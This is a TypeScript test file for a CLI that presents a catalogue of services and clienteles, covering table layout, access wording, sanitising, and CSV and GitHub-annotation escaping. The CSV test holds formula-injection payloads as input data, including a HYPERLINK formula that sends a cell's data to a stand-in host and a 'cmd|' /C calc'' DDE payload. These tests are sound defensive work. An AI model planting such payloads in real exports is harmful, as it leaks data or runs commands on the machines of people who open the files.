import { loadCatalog } from '../src/catalog/load-catalog';
import { messagesFor } from '../src/present/messages/messages';
import { makePalette, type PresentOptions } from '../src/present/options';
import { canTable, servicesTable } from '../src/present/present-access';
import { matrixTable } from '../src/present/present-catalog';
import type { Problem } from '../src/catalog/problem';
import { escapeGithubData, escapeGithubProperty, validationGithub } from '../src/present/present-problems';
import { sanitizeText } from '../src/present/sanitize';
import { csvField } from '../src/present/text-formats';
import { checkAccess, findServices } from '../src/query/access';
import { buildMatrix } from '../src/query/build-matrix';
import { indexCatalog } from '../src/query/catalog-index';
import { decideColor, decideLang } from '../src/cli/decide-color';
import { CATALOG, hasAnsi } from './helpers';

const r = loadCatalog(CATALOG);
if (!r.ok) throw new Error('invalid catalogue');
const index = indexCatalog(r.catalog);
const plain: PresentOptions = {
  m: messagesFor('fr'),
  lang: 'fr',
  palette: makePalette(false),
  width: 80,
  lineWidth: 80,
  cwd: '/work',
  version: '0.0.0',
  source: null,
};

test('tables fit 80 columns and carry no color when color is off', () => {
  for (const c of r.catalog.clienteles) {
    const text = servicesTable(findServices(index, c), plain);
    expect(hasAnsi(text)).toBe(false);
    expect(Math.max(...text.split('\n').map((l) => [...l].length))).toBeLessThanOrEqual(80);
  }
  const matrix = matrixTable(buildMatrix(index), plain);
  expect(Math.max(...matrix.split('\n').map((l) => [...l].length))).toBeLessThanOrEqual(80);
});

test('the palette colors only when enabled', () => {
  const colored = servicesTable(findServices(index, index.clienteleById.get('podiatre')!), { ...plain, palette: makePalette(true) });
  expect(hasAnsi(colored)).toBe(true);
});

test('a style of the palette takes one text: mapped over lines, it styles each line alone (chalk would join its extra arguments)', () => {
  const palette = makePalette(true);
  expect(['a', 'b'].map(palette.bold)).toEqual([palette.bold('a'), palette.bold('b')]);
  expect(['a'].map(palette.bold)[0]).not.toContain('0');
});

test('can presents yes, the tier and the conditions, then the notes that concern the clientele', () => {
  const text = canTable(checkAccess(index, index.clienteleById.get('oculariste')!, index.serviceById.get('messagerie-securisee')!), {
    ...plain,
    m: messagesFor('en'),
    lang: 'en',
  });
  // 80 columns: the sentence wraps at a space.
  expect(text).toBe(
    'Yes: Ocularist [oculariste] may use Secure messaging [messagerie-securisee]: on\nrequest.\nCondition: statements of account only\n' +
      'Note (delegation): Access cannot be delegated, except by an ocularist or a\n  hearing aid acoustician to their office staff.\n',
  );
});

test('can lists every access that applies, saying which one is inherited', () => {
  const text = canTable(
    checkAccess(index, index.clienteleById.get('candidat-ips-premiere-ligne')!, index.serviceById.get('inscription-clientele-professionnels')!),
    { ...plain, m: messagesFor('en'), lang: 'en' },
  );
  // One sentence after the other; a sentence may be wrapped onto several lines.
  expect(text.split(/(?<=\.)\n/).slice(1)).toEqual(['Also: on request (inherited from candidat-ips).', '']);
});

test('terminal text is neutralised', () => {
  expect(sanitizeText('a\u001b[31mred\u0007\u202e')).toBe('a\\u{1b}[31mred\\u{7}\\u{202e}');
});

test('CSV and GitHub escaping', () => {
  expect(csvField('a,"b"')).toBe('"a,""b"""');
  expect(csvField(null)).toBe('');
  // Formula injection: a cell that starts like a formula is made text (OWASP), quoted as CSV needs.
  expect(csvField('=HYPERLINK("http://x.example/?q="&A1,"go")')).toBe('"\'=HYPERLINK(""http://x.example/?q=""&A1,""go"")"');
  expect(csvField('+1+1')).toBe("'+1+1");
  expect(csvField('@SUM(1+1)')).toBe("'@SUM(1+1)");
  expect(csvField("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
  expect(csvField('\tx')).toBe("'\tx");
  expect(csvField('a=b')).toBe('a=b');
  expect(escapeGithubData('50% done\r\nnext')).toBe('50%25 done%0D%0Anext');
  expect(escapeGithubProperty('C:\\a,b')).toBe('C%3A\\a%2Cb');
});

describe('github annotations', () => {
  const options = {
    m: messagesFor('en'),
    lang: 'en' as const,
    palette: makePalette(false),
    width: 80,
    lineWidth: 80,
    cwd: '/repo',
    version: '9.9.9',
    source: null,
  };
  const problem = (file: string, over: Partial<Problem> = {}): Problem => ({
    code: 'UNKNOWN_CLIENTELE',
    severity: 'error',
    file,
    line: 4,
    col: 20,
    endLine: 5,
    endCol: 3,
    path: '/services/0/grants/1/clientele',
    detail: { id: 'unknownClientele', service: 's', clientele: 'g', suggestions: [] },
    ...over,
  });
  const annotate = (problems: Problem[]): string[] =>
    validationGithub([{ file: 'x', problems }], options)
      .trimEnd()
      .split('\n');

  test('give the file relative to the working directory, with / separators, and the end of the range', () => {
    expect(annotate([problem('/repo/sub/a.yaml'), problem('sub/b.yaml')])).toEqual([
      '::error file=sub/a.yaml,line=4,col=20,endLine=5,endColumn=3,title=UNKNOWN_CLIENTELE::service "s" grants access to "g", which is not a clientele id',
      '::error file=sub/b.yaml,line=4,col=20,endLine=5,endColumn=3,title=UNKNOWN_CLIENTELE::service "s" grants access to "g", which is not a clientele id',
    ]);
  });

  test('keep a file outside the working directory absolute', () => {
    expect(annotate([problem('/elsewhere/c.yaml'), problem('../d.yaml'), problem('/repository/e.yaml')]).map((l) => /file=([^,]*)/.exec(l)?.[1])).toEqual([
      '/elsewhere/c.yaml',
      '/d.yaml',
      '/repository/e.yaml',
    ]);
  });

  test('a problem without a position has neither start nor end; a warning is a ::warning', () => {
    const none = { line: null, col: null, endLine: null, endCol: null, path: null };
    expect(annotate([problem('/repo/a.yaml', { code: 'FILE_UNREADABLE', ...none }), problem('/repo/a.yaml', { severity: 'warning' })])).toEqual([
      '::error file=a.yaml,title=FILE_UNREADABLE::service "s" grants access to "g", which is not a clientele id',
      '::warning file=a.yaml,line=4,col=20,endLine=5,endColumn=3,title=UNKNOWN_CLIENTELE::service "s" grants access to "g", which is not a clientele id',
    ]);
  });
});

test('color and language decisions', () => {
  expect(decideColor({ flag: undefined, env: {}, isTTY: true })).toBe(true);
  expect(decideColor({ flag: undefined, env: {}, isTTY: false })).toBe(false);
  expect(decideColor({ flag: undefined, env: { NO_COLOR: '1' }, isTTY: true })).toBe(false);
  expect(decideColor({ flag: undefined, env: { NO_COLOR: '' }, isTTY: true })).toBe(true);
  expect(decideColor({ flag: undefined, env: { FORCE_COLOR: '1' }, isTTY: false })).toBe(true);
  expect(decideColor({ flag: undefined, env: { FORCE_COLOR: '0' }, isTTY: true })).toBe(false);
  expect(decideColor({ flag: false, env: { FORCE_COLOR: '1' }, isTTY: true })).toBe(false);
  expect(decideColor({ flag: true, env: { NO_COLOR: '1' }, isTTY: false })).toBe(true);
  expect(decideLang(undefined, { LANG: 'en_US.UTF-8' })).toBe('en');
  expect(decideLang(undefined, { LANG: 'fr_CA.UTF-8' })).toBe('fr');
  expect(decideLang(undefined, {})).toBe('fr');
  expect(decideLang('en', { LANG: 'fr_CA' })).toBe('en');
  expect(decideLang(undefined, { LC_ALL: 'en_GB', LANG: 'fr_CA' })).toBe('en');
});
